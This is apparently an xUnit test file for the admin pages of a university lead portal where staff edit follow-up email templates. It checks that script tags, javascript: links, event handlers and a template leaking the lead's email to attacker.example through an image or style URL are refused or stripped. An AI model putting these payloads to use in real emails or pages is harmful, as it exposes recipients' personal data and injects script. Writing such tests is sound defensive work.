using System.Net;
using Microsoft.EntityFrameworkCore;
using ProgramPortal.Editing;
using ProgramPortal.Email;
using ProgramPortal.Identity;
using ProgramPortal.Leads;
using ProgramPortal.Tests.Infrastructure;

namespace ProgramPortal.Tests.Admin;

/// <summary>
/// Staff edit the follow-up emails in the admin area, and leads get what they wrote. Each test
/// works on its own step or template, since the class shares one database and one fake clock.
/// </summary>
public class EmailSequenceEditingTests(LeadApp app) : IClassFixture<LeadApp>
{
    [Fact]
    public async Task An_editor_rewords_a_template_and_the_next_email_sent_uses_the_new_wording()
    {
        using var editor = await app.LoginAsAsync(StaffRoles.Editor);
        var id = await TemplateIdAsync(EmailSequenceSeed.Confirmation, null);
        var list = await editor.GetAsync("/admin/content/email-templates");
        Assert.Contains("We received your MS-ITL request", list.Text);
        var form = await editor.GetAsync($"/admin/content/email-templates/edit/{id}");
        Assert.Contains("{{first_name}}", form.Document.QuerySelector(".placeholders")!.TextContent);

        var saved = await editor.SubmitAsync(form, fields:
        [
            ("Input.Wording.Subject", "Thanks for asking: your MS-ITL next steps for {{start_term}}"),
            ("Input.Wording.HtmlBody", "<p>Dear {{first_name}},</p>\n<p>An advisor will call you about <strong>{{start_term}}</strong>.</p>"),
            ("Input.Wording.TextBody", "Dear {{first_name}},\n\nAn advisor will call you about {{start_term}}.\n"),
        ]);

        Assert.Equal("/admin/content/email-templates", saved.Path);
        Assert.Contains("Saved the follow-up email template. Emails not yet sent use it from now on.", saved.Text);
        var lead = app.ValidForm("reworded@example.com");
        using (await app.SubmitLeadAsync(lead)) { }
        await app.RunEmailSenderAsync();
        var email = Assert.Single(app.Smtp.To("reworded@example.com")).Message;
        Assert.Equal($"Thanks for asking: your MS-ITL next steps for {lead["Input.StartTerm"]}", email.Subject);
        Assert.StartsWith($"Dear Ada,\n\nAn advisor will call you about {lead["Input.StartTerm"]}.", email.TextBody!.ReplaceLineEndings("\n"));
        Assert.Contains($"<p>An advisor will call you about <strong>{lead["Input.StartTerm"]}</strong>.</p>", email.HtmlBody);
        Assert.DoesNotContain("We received your MS-ITL request", email.HtmlBody);
        Assert.NotNull(email.Headers["List-Unsubscribe"]);
    }

    [Fact]
    public async Task A_changed_delay_applies_to_people_who_ask_after_the_change_and_scheduled_emails_keep_their_date()
    {
        using (await app.SubmitLeadAsync(app.ValidForm("before-delay@example.com"))) { }
        using var editor = await app.LoginAsAsync(StaffRoles.Editor);
        var step = await app.StepIdAsync(EmailSequenceSeed.SecondFollowUp);
        var form = await editor.GetAsync($"/admin/content/email-steps/edit/{step}");
        Assert.Equal("7", form.Document.QuerySelector("input[name='Input.DelayDays']")!.GetAttribute("value"));

        var saved = await editor.SubmitAsync(form, fields: [("Input.DelayDays", "10")]);

        Assert.Contains("Second follow-up, seven days later", saved.Text);
        Assert.Contains("To the lead, 10 days after the request", saved.Text);
        using (await app.SubmitLeadAsync(app.ValidForm("after-delay@example.com"))) { }
        app.Clock.Advance(TimeSpan.FromDays(7) + TimeSpan.FromHours(1));
        await app.RunEmailSenderAsync();
        Assert.Equal(3, app.Smtp.To("before-delay@example.com").Count);
        Assert.Equal(2, app.Smtp.To("after-delay@example.com").Count);

        app.Clock.Advance(TimeSpan.FromDays(3));
        await app.RunEmailSenderAsync();
        Assert.Equal(3, app.Smtp.To("after-delay@example.com").Count);
        Assert.Equal("Planning your next step in IT leadership", app.Smtp.To("after-delay@example.com")[2].Message.Subject);
    }

    [Fact]
    public async Task An_unknown_placeholder_script_and_an_out_of_range_delay_are_refused_with_field_messages()
    {
        using var editor = await app.LoginAsAsync(StaffRoles.Editor);
        var id = await TemplateIdAsync(EmailSequenceSeed.FirstFollowUp, TrackInterest.Undecided);
        var form = await editor.GetAsync($"/admin/content/email-templates/edit/{id}");

        var refused = await editor.SubmitAsync(form, fields:
        [
            ("Input.Wording.Subject", "Hello {{frist_name}}"),
            ("Input.Wording.HtmlBody", "<p>Hi {{first_name}}</p><script>alert(1)</script><a href=\"javascript:alert(2)\" onclick=\"x()\">more</a>"),
            ("Input.Wording.TextBody", "Hi {{first_name}, see {{unsubscribe_url}}"),
        ]);

        Assert.Equal(HttpStatusCode.OK, refused.Status);
        Assert.Contains("{{frist_name}} is not a placeholder the portal knows", refused.FieldError("Input.Wording.Subject"));
        var html = refused.FieldError("Input.Wording.HtmlBody");
        Assert.Contains("Not allowed in an email:", html);
        Assert.Contains("the <script> element", html);
        Assert.Contains("the onclick attribute of <a>", html);
        Assert.Contains("the link “javascript:alert(2)”", html);
        Assert.Contains("A placeholder is missing a brace", refused.FieldError("Input.Wording.TextBody"));
        Assert.Equal("Hello {{frist_name}}", refused.Document.QuerySelector("input[name='Input.Wording.Subject']")!.GetAttribute("value"));

        var admissionsNotice = await TemplateIdAsync(EmailSequenceSeed.AdmissionsNotice, null);
        var notice = await editor.SubmitAsync(await editor.GetAsync($"/admin/content/email-templates/edit/{admissionsNotice}"),
            fields: [("Input.Wording.TextBody", "Lead {{full_name}}; unsubscribe at {{unsubscribe_url}}")]);
        Assert.Contains("only works in emails to the lead", notice.FieldError("Input.Wording.TextBody"));

        var step = await app.StepIdAsync(EmailSequenceSeed.FirstFollowUp);
        foreach (var (days, message) in new[] { ("400", "The delay must be between 0 and 365 days."), ("-1", "The delay must be between 0 and 365 days."), ("", "Give the delay in days") })
        {
            var delay = await editor.SubmitAsync(await editor.GetAsync($"/admin/content/email-steps/edit/{step}"), fields: [("Input.DelayDays", days)]);
            Assert.Equal(HttpStatusCode.OK, delay.Status);
            Assert.Contains(message, delay.FieldError("Input.DelayDays"));
        }

        await using var db = app.NewDbContext();
        Assert.Equal("IS or IT: how to choose", (await db.EmailTemplates.SingleAsync(t => t.Id == id)).Subject);
        Assert.Equal(TimeSpan.FromDays(2), (await db.SequenceSteps.SingleAsync(s => s.Id == step)).Delay);
        Assert.False(await db.ContentChanges.AnyAsync(c => c.ContentType == "email-templates" && c.ItemId == id));
    }

    private const string LeakingHtml =
        "<p>Hi {{first_name}}</p><img src=\"https://attacker.example/p.gif?e={{email}}\" alt=\"\">"
        + "<p><a href=\"https://www.sandiego.edu/?who={{email}}\">More</a></p>"
        + "<p style=\"background-image:url(https://attacker.example/bg.gif)\">Styled</p>"
        + "<p><img src=\"http://localhost/logo.png\" alt=\"USD\"> <a href=\"{{unsubscribe_url}}\">Stop these emails</a></p>";

    [Fact]
    public async Task An_editor_cannot_save_a_template_that_sends_a_persons_details_to_another_site_or_in_the_subject()
    {
        using var editor = await app.LoginAsAsync(StaffRoles.Editor);
        var id = await TemplateIdAsync(EmailSequenceSeed.FirstFollowUp, TrackInterest.Undecided);

        var refused = await editor.SubmitAsync(await editor.GetAsync($"/admin/content/email-templates/edit/{id}"), fields:
        [
            ("Input.Wording.Subject", "{{first_name}}, we received your request"),
            ("Input.Wording.HtmlBody", LeakingHtml),
        ]);

        Assert.Equal(HttpStatusCode.OK, refused.Status);
        Assert.Contains("{{first_name}} is what the person typed, and a subject never carries that", refused.FieldError("Input.Wording.Subject"));
        var html = refused.FieldError("Input.Wording.HtmlBody");
        Assert.Contains("the image “https://attacker.example/p.gif?e={{email}}” (images come only from localhost", html);
        Assert.Contains("the placeholder {{email}} in the href attribute of <a> (placeholders fill in text only", html);
        Assert.Contains("the address in the style of <p>", html);
        Assert.DoesNotContain("logo.png", html);
        Assert.DoesNotContain("unsubscribe_url}} in the", html);
        Assert.Equal("IS or IT: how to choose", await SubjectAsync(id));
    }

    [Fact]
    public async Task A_template_put_in_the_database_behind_the_editor_s_back_sends_no_outside_image_and_no_details_in_attributes()
    {
        var confirmation = await app.StepIdAsync(EmailSequenceSeed.Confirmation);
        await using (var db = app.NewDbContext())
        {
            db.EmailTemplates.Add(new EmailTemplate
            {
                StepId = confirmation, Track = TrackInterest.Undecided,
                Subject = "Hello {{first_name}} from {{country}}", HtmlBody = LeakingHtml, TextBody = "Hi {{first_name}}",
            });
            await db.SaveChangesAsync();
        }

        try
        {
            using (await app.SubmitLeadAsync(app.ValidForm("leak.target@example.com", track: "Undecided"))) { }
            await app.RunEmailSenderAsync();
        }
        finally
        {
            await using var db = app.NewDbContext();
            await db.EmailTemplates.Where(t => t.StepId == confirmation && t.Track == TrackInterest.Undecided).ExecuteDeleteAsync();
        }

        var email = Assert.Single(app.Smtp.To("leak.target@example.com")).Message;
        Assert.Equal("Hello from United States", email.Subject);
        var sent = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(email.HtmlBody!);
        Assert.Contains("Hi Ada", sent.Body!.TextContent);
        Assert.DoesNotContain("attacker.example", email.HtmlBody);
        Assert.Equal(["http://localhost/logo.png"], sent.Images.Select(i => i.GetAttribute("src")));
        var attributes = sent.All.SelectMany(e => e.Attributes).Select(a => Uri.UnescapeDataString(a.Value)).ToList();
        Assert.DoesNotContain(attributes, value => value.Contains("leak.target", StringComparison.OrdinalIgnoreCase));
        Assert.Contains(attributes, value => value.StartsWith("http://localhost/unsubscribe?token="));
        Assert.Contains("More", sent.Body.TextContent);
    }

    [Fact]
    public async Task The_preview_fills_in_a_sample_person_encodes_their_details_and_saves_nothing()
    {
        using var editor = await app.LoginAsAsync(StaffRoles.Editor);
        var id = await TemplateIdAsync(EmailSequenceSeed.AdmissionsNotice, null);
        var form = await editor.GetAsync($"/admin/content/email-templates/edit/{id}");
        Assert.Matches(@"^New MS-ITL inquiry, lead \d+ \(Information Systems \(IS\), ", form.Document.QuerySelector(".preview-subject")!.TextContent);

        var preview = await editor.ClickAsync(form, "button[formaction*='handler=Preview']",
            ("Input.Wording.HtmlBody", "<p>Wrote: <em>{{message}}</em></p><p><a href=\"https://www.sandiego.edu/\">USD</a></p>"),
            ("Input.Track", "IT"));

        var frame = preview.Document.QuerySelector("iframe.preview-html")!;
        Assert.Equal("", frame.GetAttribute("sandbox"));
        var srcdoc = frame.GetAttribute("srcdoc")!;
        Assert.Contains("<em>Can I keep my full-time job while I study? I'd like to hear about &lt;evening&gt; classes &amp; fees.</em>", srcdoc);
        Assert.DoesNotContain("<evening>", srcdoc);
        Assert.Contains("<a href=\"https://www.sandiego.edu/\">USD</a>", srcdoc);
        Assert.DoesNotContain("<evening>", preview.Html);
        Assert.Contains("Preview for Maria Santos, interested in Information Technology (IT)", preview.Text);
        Assert.Contains("Message:\nCan I keep my full-time job", preview.Document.QuerySelector("pre.preview-text")!.TextContent.ReplaceLineEndings("\n"));
        Assert.Equal("IT", preview.Document.QuerySelector("select[name='Input.Track'] option[selected]")!.GetAttribute("value"));

        var refused = await editor.ClickAsync(form, "button[formaction*='handler=Preview']",
            ("Input.Wording.HtmlBody", "<p onmouseover=\"steal()\">{{message}}</p>"));
        Assert.Contains("the onmouseover attribute of <p>", refused.FieldError("Input.Wording.HtmlBody"));
        Assert.Null(refused.Document.QuerySelector("iframe.preview-html"));

        await using var db = app.NewDbContext();
        var template = await db.EmailTemplates.SingleAsync(t => t.Id == id);
        Assert.Null(template.Track);
        Assert.Contains("<p><strong>Message:</strong><br>{{message}}</p>", template.HtmlBody);
    }

    [Fact]
    public async Task The_second_of_two_simultaneous_template_edits_is_refused_with_both_versions_shown()
    {
        using var alice = await app.LoginAsAsync(StaffRoles.Editor);
        using var bob = await app.LoginAsAsync(StaffRoles.Admin);
        var id = await TemplateIdAsync(EmailSequenceSeed.FirstFollowUp, TrackInterest.IT);
        var aliceForm = await alice.GetAsync($"/admin/content/email-templates/edit/{id}");
        var bobForm = await bob.GetAsync($"/admin/content/email-templates/edit/{id}");

        await alice.SubmitAsync(aliceForm, fields: [("Input.Wording.Subject", "{{start_term}}: the road to IT leadership")]);
        var refused = await bob.SubmitAsync(bobForm, fields: [("Input.Wording.Subject", "{{start_term}}: lead the IT team")]);

        Assert.Contains("Not saved: someone else saved this follow-up email template after you opened it", refused.Text);
        var conflict = refused.Document.QuerySelector(".conflict")!.TextContent;
        Assert.Contains("the road to IT leadership", conflict);
        Assert.Contains("lead the IT team", conflict);
        Assert.Equal("{{start_term}}: lead the IT team", refused.Document.QuerySelector("input[name='Input.Wording.Subject']")!.GetAttribute("value"));
        Assert.Equal("{{start_term}}: the road to IT leadership", await SubjectAsync(id));

        var saved = await bob.SubmitAsync(refused);
        Assert.Contains("Saved the follow-up email template", saved.Text);
        Assert.Equal("{{start_term}}: lead the IT team", await SubjectAsync(id));
    }

    [Fact]
    public async Task A_template_s_changes_are_recorded_and_an_earlier_version_is_restored_and_sent()
    {
        using var editor = await app.LoginAsAsync(StaffRoles.Editor);
        var id = await TemplateIdAsync(EmailSequenceSeed.SecondFollowUp, TrackInterest.IS);
        await editor.SubmitAsync(await editor.GetAsync($"/admin/content/email-templates/edit/{id}"),
            fields: [("Input.Wording.Subject", "Your IS plans for {{start_term}}")]);
        await editor.SubmitAsync(await editor.GetAsync($"/admin/content/email-templates/edit/{id}"),
            fields: [("Input.Wording.Subject", "A typo'd subjcet")]);

        var history = await editor.GetAsync($"/admin/content/email-templates/{id}/history");
        var versions = history.Document.QuerySelectorAll("ol.history > li");
        Assert.Equal(3, versions.Length);
        Assert.Contains("Subject", versions[0].TextContent);
        Assert.Contains("A typo'd subjcet", versions[0].TextContent);
        Assert.Contains("Planning your next step in Information Systems", versions[1].TextContent);

        Assert.Null(versions[0].QuerySelector("a.restore"));
        var restored = await editor.SubmitAsync(await editor.ClickLinkAsync(history, "ol.history > li:nth-child(2) a.restore"));

        Assert.Contains("Restored the version saved", restored.Text);
        Assert.Contains("Emails not yet sent use it from now on.", restored.Text);
        Assert.Equal("Your IS plans for {{start_term}}", await SubjectAsync(id));
        await using (var db = app.NewDbContext())
        {
            var actions = await db.ContentChanges.Where(c => c.ContentType == "email-templates" && c.ItemId == id)
                .OrderBy(c => c.Id).Select(c => c.Action).ToListAsync();
            Assert.Equal([ChangeAction.Updated, ChangeAction.Updated, ChangeAction.Restored], actions);
        }

        var restoredLead = app.ValidForm("restored@example.com", track: "IS");
        using (await app.SubmitLeadAsync(restoredLead)) { }
        app.Clock.Advance(TimeSpan.FromDays(11));
        await app.RunEmailSenderAsync();
        Assert.Contains(app.Smtp.To("restored@example.com"), m => m.Message.Subject == $"Your IS plans for {restoredLead["Input.StartTerm"]}");
    }

    [Fact]
    public async Task A_new_step_goes_out_with_its_wording_and_a_step_in_leads_logs_cannot_be_deleted()
    {
        using var editor = await app.LoginAsAsync(StaffRoles.Editor);
        var created = await editor.SubmitAsync(await editor.GetAsync("/admin/content/email-steps/edit"), fields:
        [
            ("Input.Name", "Third follow-up, two weeks later"), ("Input.Audience", "Lead"), ("Input.DelayDays", "14"),
            ("Input.FirstWording.Subject", "Applications for {{start_term}} are open"),
            ("Input.FirstWording.HtmlBody", "<p>Hello {{first_name}},</p><p>Applications are open.</p>"),
            ("Input.FirstWording.TextBody", "Hello {{first_name}},\n\nApplications are open.\n"),
        ]);
        Assert.Contains("Saved the follow-up email step.", created.Text);
        Assert.Contains("To the lead, 14 days after the request", created.Text);

        var lead = app.ValidForm("two-weeks@example.com");
        using (await app.SubmitLeadAsync(lead)) { }
        app.Clock.Advance(TimeSpan.FromDays(13));
        await app.RunEmailSenderAsync();
        var subject = $"Applications for {lead["Input.StartTerm"]} are open";
        Assert.DoesNotContain(app.Smtp.To("two-weeks@example.com"), m => m.Message.Subject == subject);
        app.Clock.Advance(TimeSpan.FromDays(1));
        await app.RunEmailSenderAsync();
        Assert.Contains(app.Smtp.To("two-weeks@example.com"), m => m.Message.Subject == subject);

        await using var db = app.NewDbContext();
        var step = await db.SequenceSteps.Include(s => s.Templates).SingleAsync(s => s.Name == "Third follow-up, two weeks later");
        Assert.Null(Assert.Single(step.Templates).Track);
        // Two weeks on, the first sign-in has expired.
        using var later = await app.LoginAsAsync(StaffRoles.Editor);
        var confirm = await later.GetAsync($"/admin/content/email-steps/{step.Id}/delete");
        Assert.Contains("in leads' email logs came from this step", confirm.Text);
        Assert.Null(confirm.Document.QuerySelector("main form[method=post] button.danger"));
        var forced = await later.PostAsync($"/admin/content/email-steps/{step.Id}/delete", [("__RequestVerificationToken", StaffBrowser.AntiforgeryToken(confirm))]);
        Assert.Equal(HttpStatusCode.OK, forced.Status);
        Assert.True(await db.SequenceSteps.AnyAsync(s => s.Id == step.Id));
    }

    [Fact]
    public async Task A_step_nobody_was_sent_is_deleted_with_its_templates_and_both_come_back_from_history()
    {
        using var editor = await app.LoginAsAsync(StaffRoles.Editor);
        await editor.SubmitAsync(await editor.GetAsync("/admin/content/email-steps/edit"), fields:
        [
            ("Input.Name", "Open-house invitation"), ("Input.Audience", "Lead"), ("Input.DelayDays", "30"),
            ("Input.FirstWording.Subject", "Join our open house"),
            ("Input.FirstWording.HtmlBody", "<p>Join us.</p>"), ("Input.FirstWording.TextBody", "Join us."),
        ]);
        await using var db = app.NewDbContext();
        var step = await db.SequenceSteps.Include(s => s.Templates).SingleAsync(s => s.Name == "Open-house invitation");
        var template = Assert.Single(step.Templates);

        var deleted = await editor.SubmitAsync(await editor.GetAsync($"/admin/content/email-steps/{step.Id}/delete"));

        Assert.Contains("Deleted the follow-up email step.", deleted.Text);
        Assert.False(await db.EmailTemplates.AnyAsync(t => t.Id == template.Id));
        await editor.SubmitAsync(await editor.ClickLinkAsync(await editor.GetAsync($"/admin/content/email-steps/{step.Id}/history"), "ol.history a.restore"));
        var restored = await editor.SubmitAsync(await editor.ClickLinkAsync(
            await editor.GetAsync($"/admin/content/email-templates/{template.Id}/history"), "ol.history a.restore"));
        Assert.Contains("Restored the version", restored.Text);
        var back = await db.EmailTemplates.AsNoTracking().Include(t => t.Step).SingleAsync(t => t.Id == template.Id);
        Assert.Equal("Join our open house", back.Subject);
        Assert.Equal("Open-house invitation", back.Step!.Name);
    }

    [Fact]
    public async Task A_step_keeps_wording_for_every_track_when_templates_are_deleted_or_moved()
    {
        using var editor = await app.LoginAsAsync(StaffRoles.Editor);
        var isTemplate = await TemplateIdAsync(EmailSequenceSeed.FirstFollowUp, TrackInterest.IS);
        var blocked = await editor.GetAsync($"/admin/content/email-templates/{isTemplate}/delete");
        Assert.Contains("would have no wording for people interested in Information Systems (IS)", blocked.Text);

        var moved = await editor.SubmitAsync(await editor.GetAsync($"/admin/content/email-templates/edit/{isTemplate}"),
            fields: [("Input.Track", "")]);
        Assert.Contains("This would leave its step without wording for people interested in Information Systems (IS)", moved.FieldError("Input.Track"));

        var step = await app.StepIdAsync(EmailSequenceSeed.FirstFollowUp);
        var add = await editor.GetAsync($"/admin/content/email-templates/edit?step={step}");
        Assert.Equal(step.ToString(), add.Document.QuerySelector("select[name='Input.StepId'] option[selected]")!.GetAttribute("value"));
        var duplicate = await editor.SubmitAsync(add, fields:
            [("Input.Track", "IT"), ("Input.Wording.Subject", "Again"), ("Input.Wording.HtmlBody", "<p>x</p>"), ("Input.Wording.TextBody", "x")]);
        Assert.Contains("already has a template for Information Technology (IT). Edit that one instead.", duplicate.FieldError("Input.Track"));

        await editor.SubmitAsync(add, fields:
            [("Input.Track", ""), ("Input.Wording.Subject", "A note from MS-ITL about {{track}}"), ("Input.Wording.HtmlBody", "<p>Hello</p>"), ("Input.Wording.TextBody", "Hello")]);
        var confirm = await editor.GetAsync($"/admin/content/email-templates/{isTemplate}/delete");
        var deleted = await editor.SubmitAsync(confirm);
        Assert.Contains("Deleted the follow-up email template", deleted.Text);

        using (await app.SubmitLeadAsync(app.ValidForm("fallback@example.com", track: "IS"))) { }
        app.Clock.Advance(TimeSpan.FromDays(2) + TimeSpan.FromHours(1));
        await app.RunEmailSenderAsync();
        Assert.Contains(app.Smtp.To("fallback@example.com"), m => m.Message.Subject == "A note from MS-ITL about Information Systems (IS)");
    }

    [Fact]
    public async Task A_version_whose_track_another_template_has_taken_since_is_not_restored()
    {
        using var editor = await app.LoginAsAsync(StaffRoles.Editor);
        var step = await app.StepIdAsync(EmailSequenceSeed.AdmissionsNotice);
        var add = await editor.GetAsync($"/admin/content/email-templates/edit?step={step}");
        (string, string?)[] wording(string subject) =>
            [("Input.Wording.Subject", subject), ("Input.Wording.HtmlBody", "<p>{{full_name}}</p>"), ("Input.Wording.TextBody", "{{full_name}}")];
        await editor.SubmitAsync(add, fields: [("Input.Track", "IS"), .. wording("IS lead {{lead_id}}")]);
        var id = await TemplateIdAsync(EmailSequenceSeed.AdmissionsNotice, TrackInterest.IS);
        await editor.SubmitAsync(await editor.GetAsync($"/admin/content/email-templates/edit/{id}"), fields: [("Input.Track", "IT")]);
        await editor.SubmitAsync(add, fields: [("Input.Track", "IS"), .. wording("Another IS lead {{lead_id}}")]);

        var history = await editor.GetAsync($"/admin/content/email-templates/{id}/history");
        var refused = await editor.SubmitAsync(await editor.ClickLinkAsync(history, "ol.history > li:nth-child(2) a.restore"));

        Assert.Contains("That version could not be restored: The step “New-lead note to the admissions inbox” already has a template "
            + "for Information Systems (IS). Edit that one instead.", refused.Text);
        await using var db = app.NewDbContext();
        Assert.Equal(TrackInterest.IT, (await db.EmailTemplates.SingleAsync(t => t.Id == id)).Track);
        Assert.Equal(2, await db.ContentChanges.CountAsync(c => c.ContentType == "email-templates" && c.ItemId == id));
    }

    [Fact]
    public async Task An_admissions_user_cannot_open_or_change_the_email_sequence()
    {
        using var admissions = await app.LoginAsAsync(StaffRoles.Admissions);
        var id = await TemplateIdAsync(EmailSequenceSeed.FirstFollowUp, TrackInterest.Undecided);
        foreach (var path in new[] { "/admin/content/email-templates", $"/admin/content/email-templates/edit/{id}", "/admin/content/email-steps/edit/1" })
        {
            var page = await admissions.GetAsync(path);
            Assert.Equal(HttpStatusCode.Forbidden, page.Status);
            Assert.StartsWith("/admin/denied", page.Path);
        }

        var token = StaffBrowser.AntiforgeryToken(await admissions.GetAsync("/admin"));
        foreach (var url in new[] { $"/admin/content/email-templates/edit/{id}", $"/admin/content/email-templates/edit/{id}?handler=Preview" })
        {
            using var response = await admissions.Client.PostAsync(url, new FormUrlEncodedContent(new Dictionary<string, string>
            {
                ["Input.StepId"] = (await app.StepIdAsync(EmailSequenceSeed.FirstFollowUp)).ToString(),
                ["Input.Wording.Subject"] = "Hacked", ["Input.Wording.HtmlBody"] = "x", ["Input.Wording.TextBody"] = "x",
                ["__RequestVerificationToken"] = token,
            }));
            Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
            Assert.StartsWith("/admin/denied", response.Headers.Location!.AbsolutePath);
        }

        Assert.NotEqual("Hacked", await SubjectAsync(id));
    }

    private async Task<int> TemplateIdAsync(string stepKey, TrackInterest? track)
    {
        await using var db = app.NewDbContext();
        return await db.EmailTemplates.Where(t => t.Step!.Key == stepKey && t.Track == track).Select(t => t.Id).SingleAsync();
    }

    private async Task<string> SubjectAsync(int templateId)
    {
        await using var db = app.NewDbContext();
        return await db.EmailTemplates.Where(t => t.Id == templateId).Select(t => t.Subject).SingleAsync();
    }
}
